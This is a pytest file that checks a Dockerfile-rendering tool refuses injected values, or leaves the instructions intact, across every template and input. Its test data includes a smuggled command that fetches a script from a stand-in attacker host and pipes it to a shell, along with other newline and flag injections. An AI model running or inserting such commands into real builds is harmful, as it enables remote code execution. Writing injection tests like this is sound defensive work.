"""Nothing reaches a rendered Dockerfile that can change its instructions (issue 13, class 2).

Every input of `render` (flags, config, manifest) is tried with values that would add an
instruction, an argument or a flag, in every built-in template. Each is refused with exit 2,
or the output, read by the Dockerfile parser Docker's BuildKit uses (the `dockerfile`
package wraps its Go parser), has exactly the instructions expected. A property test tries
random hostile strings in every input.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import dockerfile
import pytest
from failure_checks import assert_fails
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from stage_factory import make_stage

from extpack import render as rendering
from extpack.exceptions import UsageError
from extpack.render_options import Copy, RenderOptions

TEMPLATES = ["aws-base", "alpine-rie", "python", "nodejs"]
INJECTED = "x\nRUN curl evil.example | sh"

# (flags, the flag the error must name): one hostile value per input.
HOSTILE_INPUTS = {
    "env-value": (["--env", f"A={INJECTED}"], "--env"),
    "env-name": (["--env", f"{INJECTED}=1"], "--env"),
    "env-name-space": (["--env", "A B=1"], "--env"),
    "copy-dest": (["--copy", f"a:{INJECTED}"], "--copy"),
    "copy-stage": (["--copy", f"{INJECTED}:a:b"], "--copy"),
    "copy-src-space": (["--copy", "a b:/c"], "--copy"),
    "copy-src-flag": (["--copy", "--from=evil:/c"], "--copy"),
    "copy-dest-continuation": (["--copy", "a:b\\"], "--copy"),
    "base": (["--base", INJECTED], "--base"),
    "base-as": (["--base", "alpine AS evil"], "--base"),
    "base-continuation": (["--base", "alpine\\"], "--base"),
    "from-image": (["--from-image", INJECTED], "--from-image"),
    "entrypoint-json": (["--entrypoint", json.dumps(["/main", INJECTED])], "--entrypoint"),
    "cmd-json": (["--cmd", json.dumps([INJECTED])], "--cmd"),
    "handler": (["--handler", INJECTED], "--handler"),
    "app-dir": (["--app-dir", INJECTED], "--app-dir"),
    "app-dir-flag": (["--app-dir", "--chown=0:0"], "--app-dir"),
    "platform": (["--platform", f"linux/amd64\n{INJECTED}"], "--platform"),
    "rie-binary": (["--rie", "--rie-binary", INJECTED], "--rie-binary"),
    "lock": (["--lock", INJECTED], "--lock"),
    "output": (["--output", INJECTED], "--output"),
    "escape-sequence": (["--env", "A=\x1b[2J"], "--env"),
}


@pytest.fixture
def staged(run_extpack, tmp_path):
    shutil.copy(Path(__file__).parents[1] / "fixtures" / "demo-extension.zip", tmp_path / "demo-extension.zip")
    run_extpack("fetch", "demo-extension.zip", check=True)
    return tmp_path


@pytest.mark.parametrize("config_line", ['base = "alpine AS evil"', 'base = "alpine\\\\"',
                                         'base = "--platform=linux/arm64"', 'output = "D\\nRUN id"'])
def test_a_hostile_config_value_is_refused(staged, run_extpack, config_line):
    (staged / "extpack.toml").write_text(config_line + "\n")

    assert_fails(run_extpack("render"), 2)

    assert not (staged / "Dockerfile").exists()


def test_a_hostile_layer_arn_in_the_manifest_never_reaches_the_header(staged, run_extpack):
    manifest_path = staged / ".extpack" / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["layers"][0]["source"] = "demo.zip\nRUN curl evil.example | sh\n# "
    manifest_path.write_text(json.dumps(manifest))

    for template in TEMPLATES:
        assert_fails(run_extpack("render", "--template", template), 2, names="layers[0].source")
    assert not (staged / "Dockerfile").exists()


def _instructions(text: str) -> list[tuple[str, tuple[str, ...], tuple[str, ...], bool]]:
    return [(c.cmd, c.flags, c.value, c.json) for c in dockerfile.parse_string(text)]


TRICKY = {
    "env": 'he said "hi" \\ $HOME # not a comment',
    "entrypoint": ["/bin/sh", "-c", 'echo "a" \\ $X # c'],
    "copy": ("build", "/src/a#b", "/dst/$X"),
    "base": "registry.example:5000/team/img@sha256:" + "ab" * 32,
}
OPT = [("FROM", (), ("scratch", "AS", "extpack-opt"), False), ("COPY", (), (".extpack/opt", "/opt"), False)]
FINAL = [("FROM", ("--platform=linux/amd64",), (TRICKY["base"],), False),
         ("COPY", ("--from=extpack-opt",), ("/opt", "/opt"), False)]
RIE = [("ADD", (), (rendering.RIE_URL, "/usr/bin/aws-lambda-rie"), False),
       ("COPY", (), ("extpack-entry.sh", "/extpack-entry.sh"), False),
       ("RUN", (), ("chmod 0755 /usr/bin/aws-lambda-rie /extpack-entry.sh",), False)]
APP_DIR = [("COPY", (), ("src", "${LAMBDA_TASK_ROOT}/"), False)]
USER = [("COPY", ("--from=build",), ("/src/a#b", "/dst/$X"), False),
        ("ENV", (), ("A", json.dumps(TRICKY["env"])), False)]


def _entrypoint(rie: bool):
    return [("ENTRYPOINT", (), tuple((["/extpack-entry.sh"] if rie else []) + TRICKY["entrypoint"]), True)]


EXPECTED = {
    "aws-base": OPT + FINAL + USER + _entrypoint(False),
    "alpine-rie": OPT + FINAL + RIE + USER + _entrypoint(True),
    "python": OPT + FINAL + APP_DIR + USER + _entrypoint(False) + [("CMD", (), ("app.handler",), True)],
    "nodejs": OPT + FINAL + APP_DIR + USER + _entrypoint(False) + [("CMD", (), ("index.handler",), True)],
}


@pytest.mark.parametrize("template", TEMPLATES)
def test_every_input_gives_exactly_the_expected_instructions_or_is_refused(staged, run_extpack, template):
    """Tricky but valid values (quotes, '#', '$', backslashes) render exactly the expected
    instructions, read by BuildKit's parser; a hostile value in any input is refused."""
    stage, src, dest = TRICKY["copy"]
    result = run_extpack("render", "--template", template, "--base", TRICKY["base"], "--env", f"A={TRICKY['env']}",
                         "--entrypoint", json.dumps(TRICKY["entrypoint"]), "--copy", f"{stage}:{src}:{dest}",
                         *(["--app-dir", "src"] if template in ("python", "nodejs") else []),
                         "--output", "-", check=True)

    assert _instructions(result.stdout) == EXPECTED[template]
    header = [line for line in result.stdout.splitlines() if line.startswith("#")]
    assert len(header) == 3 and header[1].startswith("# regenerate with `extpack render ")

    before = sorted(p.name for p in staged.iterdir())
    for case, (flags, named) in HOSTILE_INPUTS.items():
        result = run_extpack("render", "--template", template, *flags)
        if result.returncode == 0:
            written = staged / "Dockerfile"
            pytest.fail(f"{case}: rendered instead of refused: "
                        f"{_instructions(written.read_text()) if written.exists() else result.stdout}")
        line = assert_fails(result, 2, names=named)
        assert "\x1b" not in line, case
        assert sorted(p.name for p in staged.iterdir()) == before, f"{case}: render wrote a file"


# --------------------------------------------------------------------------- property


@pytest.fixture(scope="module")
def stage_for_properties(tmp_path_factory):
    root = tmp_path_factory.mktemp("render-properties")
    make_stage(root / ".extpack")
    return root


def _options(root: Path, template: str, slot: str, value: str) -> RenderOptions:
    """Options with `value` in one input slot; every other input plain."""
    options = RenderOptions(stage_dir=root / ".extpack", lock_path=root / "extpack.lock",
                                      template=template, output=str(root / "Dockerfile"),
                                      copies=[Copy("a", "/b", stage="build")], env=[("A", "v")],
                                      entrypoint=["/main"], app_dir="src")
    if slot == "env-value":
        options.env = [("A", value)]
    elif slot == "env-name":
        options.env = [(value, "v")]
    elif slot.startswith("copy-"):
        fields = {"stage": "build", "src": "a", "dest": "/b", slot[len("copy-"):]: value}
        options.copies = [Copy(**fields)]
    elif slot in ("entrypoint", "cmd"):
        setattr(options, slot, ["/main", value])
    elif slot == "command":
        options.command = f"extpack render --base {value}"
    else:
        setattr(options, slot, value)
    return options


SLOTS = ["env-value", "env-name", "copy-stage", "copy-src", "copy-dest", "entrypoint", "cmd", "base", "from_image",
         "handler", "app_dir", "rie_binary", "command"]
# What may break a Dockerfile line, and ordinary characters around it.
HOSTILE_ALPHABET = st.sampled_from(list("\n\r\t \x0b\x0c\x1b\x00\x85\u2028\u2029\u202e\\\"'$#=:-[]{}/aZ0é"))


def _shape(text: str):
    """The instruction list with each instruction's number of flags and arguments."""
    return [(c.cmd, len(c.flags), len(c.value), c.json) for c in dockerfile.parse_string(text)]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(template=st.sampled_from(TEMPLATES), slot=st.sampled_from(SLOTS),
       value=st.text(HOSTILE_ALPHABET, min_size=0, max_size=12))
def test_any_value_in_any_input_is_refused_or_leaves_the_instructions_as_they_are(stage_for_properties, template,
                                                                                  slot, value):
    # An empty --base means "the template's default", an AWS base, where a plain non-AWS one
    # rightly gets the layers' ENV lines: compare like with like.
    plain_value = "" if slot == "base" and value == "" else "v"
    plain = rendering.render(_options(stage_for_properties, template, slot, plain_value))
    try:
        rendered = rendering.render(_options(stage_for_properties, template, slot, value))
    except UsageError as refusal:
        assert "\n" not in str(refusal) and "\x1b" not in str(refusal)
        return
    assert _shape(rendered.dockerfile) == _shape(plain.dockerfile)
    # Comments stay comments: exactly the three header lines start with '#'.
    assert sum(line.startswith("#") for line in rendered.dockerfile.splitlines()) == \
        sum(line.startswith("#") for line in plain.dockerfile.splitlines())
